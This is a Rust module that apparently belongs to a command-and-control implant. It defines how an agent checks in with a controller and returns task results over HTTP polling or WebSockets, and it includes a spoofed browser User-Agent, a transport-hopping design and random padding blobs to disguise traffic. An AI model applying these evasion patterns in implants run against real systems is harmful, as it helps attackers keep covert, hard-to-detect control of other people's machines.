//! The Communicator capability: one contract, six wire transports. The
//! run loops and the hop sequencer only ever see `dyn Communicator`; a
//! transport's connection state stays inside its own instance.

pub mod http;
pub mod ws;

use crate::config::{ChannelConfig, Transport, TransportFamily};
use crate::protocol::TaskResult;
use async_trait::async_trait;
use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine;
use rand::RngCore;
use uuid::Uuid;

pub use http::HttpCommunicator;
pub use ws::WsCommunicator;

/// Browser-like User-Agent presented on every request and handshake.
pub const USER_AGENT: &str =
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0";

/// Header carrying the immutable agent identity. Lowercase on the wire,
/// as HTTP/2 and HTTP/3 would coerce it anyway.
pub const AGENT_ID_HEADER: &str = "agent-id";

/// Stateful binding of one ChannelConfig to one transport. Exactly one
/// instance is active at any instant, plus at most one hop candidate
/// under test.
#[async_trait]
pub trait Communicator: Send + Sync {
    /// Which of the six variants this instance was built as.
    fn transport(&self) -> Transport;

    /// Establish the channel. No-op for the poll family; one-time
    /// handshake for the duplex family.
    async fn connect(&self) -> crate::Result<()>;

    /// Release the channel. Drains idle connections for the poll family;
    /// closes the socket for the duplex family. Safe to call repeatedly.
    async fn disconnect(&self) -> crate::Result<()>;

    /// One poll cycle: ask the controller whether work is available and
    /// return the raw response body. Duplex variants return an empty
    /// body by contract; the controller pushes instead.
    async fn check_in(&self) -> crate::Result<String>;

    /// Submit a task result over this channel.
    async fn send_result(&self, result: &TaskResult) -> crate::Result<()>;

    /// Duplex capability, exposed only by socket-holding variants. The
    /// run loop must check this before entering the read path.
    fn duplex(&self) -> Option<&dyn DuplexChannel> {
        None
    }
}

/// Extended capability of the duplex family: block for the next pushed
/// message.
#[async_trait]
pub trait DuplexChannel: Send + Sync {
    /// Next text frame from the controller. `None` is a heartbeat or
    /// otherwise ignorable frame; an error means the socket is gone.
    async fn read_message(&self) -> crate::Result<Option<String>>;
}

/// Build a Communicator for the config's transport. Validation failures
/// surface here as construction errors, before any socket is opened.
pub fn build(config: &ChannelConfig, identity: Uuid) -> crate::Result<Box<dyn Communicator>> {
    config.validate()?;
    match config.transport.family() {
        TransportFamily::Poll => Ok(Box::new(HttpCommunicator::new(config.clone(), identity)?)),
        TransportFamily::Duplex => Ok(Box::new(WsCommunicator::new(config.clone(), identity))),
    }
}

/// Random base64 padding blob with decoded length drawn uniformly from
/// [min, max] bytes. Inverted bounds are forgiven by stretching the
/// upper bound up to min instead of rejecting the draw.
pub fn padding_blob(min: usize, max: usize) -> String {
    let upper = max.max(min);
    if upper == 0 {
        return String::new();
    }

    use rand::Rng;
    let mut rng = rand::thread_rng();
    let len = rng.gen_range(min..=upper);
    let mut blob = vec![0u8; len];
    rng.fill_bytes(&mut blob);
    BASE64.encode(blob)
}
